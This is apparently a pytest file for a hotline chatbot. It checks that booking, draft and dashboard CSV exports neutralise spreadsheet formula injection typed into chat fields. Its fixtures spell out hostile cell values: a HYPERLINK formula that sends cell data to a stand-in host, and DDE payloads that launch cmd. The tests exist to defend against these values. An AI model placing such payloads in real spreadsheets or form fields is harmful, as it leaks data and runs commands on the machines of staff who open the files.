"""Attacks on the hotline staff's tools: formulas smuggled into CSV exports through the chat,
and (further down) logins to the dashboard.

A name or organisation typed into the chat ends up in a file the team opens in a spreadsheet;
every export must hand it over as text, never as a formula.
"""
from __future__ import annotations

import csv
import io
from argparse import Namespace
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from bot.applications.service import DraftService
from bot.booking.calendar import load_calendar_config
from bot.booking.service import BookingRequest, BookingService
from bot.cli import drafts as drafts_cli
from bot.cli.staff import write_csv as write_bookings_csv
from bot.handoff.service import TicketService
from bot.spreadsheet import safe_cell
from bot.storage.db import session_factory
from bot.web.dashboard import Dashboard, DashboardOptions
# cheap_hashing is an autouse fixture: imported, it makes scrypt cheap here too.
from tests.test_dashboard import FakeClock, cheap_hashing, login, run  # noqa: F401

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 28, 10, tzinfo=BERLIN)
SLOT = datetime(2026, 12, 3, 10, tzinfo=BERLIN)
# What a visitor can type as name or organisation: free_text accepts all of these.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2;"Details")'
FORMULAS = {
    "name": HYPERLINK,
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cluster_name": "  -2+3+cmd|' /C notepad'!A0",       # leading blanks do not help
}


def cells_of(text: str, delimiter: str = ",") -> list:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def assert_neutralised(cell: str, typed: str) -> None:
    assert cell == "'" + typed, cell


# --- CSV injection ----------------------------------------------------------------------------
def test_bookings_export_neutralises_formulas_in_names(database_url):
    service = BookingService(session_factory(database_url), load_calendar_config(), clock=lambda: NOW)
    service.book(BookingRequest(SLOT, "video", FORMULAS["name"], FORMULAS["organisation"], FORMULAS["cluster_name"],
                                "anna@example.org", None, NOW))
    out = io.StringIO()
    write_bookings_csv(service.bookings_between(SLOT.date(), SLOT.date()), out)
    header, row = cells_of(out.getvalue())
    for column, typed in FORMULAS.items():
        assert_neutralised(row[header.index(column)], typed)


def test_drafts_export_neutralises_formulas_in_names(database_url, tmp_path):
    bookings = BookingService(session_factory(database_url), load_calendar_config(), clock=lambda: NOW)
    booking = bookings.book(BookingRequest(SLOT, "video", "Anna", "Org", "Cl", "anna@example.org", None, NOW))
    bookings.mark_held(booking.reference)
    drafts = DraftService(session_factory(database_url), clock=lambda: NOW)
    draft = drafts.open(booking.reference, booking.email)
    drafts.save_fields(draft.reference, {"cluster_name": FORMULAS["name"], "organisation": FORMULAS["organisation"],
                                         "contact_person": FORMULAS["cluster_name"], "actors_total": 120})
    target = tmp_path / "entwuerfe.csv"
    assert drafts_cli.run(Namespace(action="export", format="csv", status=None, out=str(target)), drafts) == 0
    header, row = cells_of(target.read_text("utf-8"))
    assert_neutralised(row[header.index("cluster_name")], FORMULAS["name"])
    assert_neutralised(row[header.index("organisation")], FORMULAS["organisation"])
    assert_neutralised(row[header.index("contact_person")], FORMULAS["cluster_name"])
    assert row[header.index("actors_total")] == "120"


def test_dashboard_questions_export_uses_the_same_rule(database_url):
    """Unanswered questions come straight from the chat. The dashboard escaped "=" at the start
    before; it now applies the one shared rule, so the three exports cannot drift apart."""
    clock = FakeClock(NOW)
    board = Dashboard(database_url, clock, DashboardOptions())
    board.accounts.add("anna", "korrekt-pferd-batterie")
    typed = [HYPERLINK, "@SUM(A1:A9)", "-2+3", "\u200b=1+1", "Was kostet das Gold-Label?"]
    tickets = TicketService(board.sessions, clock=clock)
    for text in typed:
        tickets.log_unanswered(text, "not_understood")

    async def scenario(client):
        await login(client)
        return await (await client.get("/hotline/fragen.csv")).text()

    rows = cells_of(run(board, scenario).lstrip("\ufeff"), delimiter=";")
    exported = sorted(row[0] for row in rows[1:])
    assert exported == sorted(safe_cell(text) for text in typed)
    assert sum(cell.startswith("'") for cell in exported) == 4
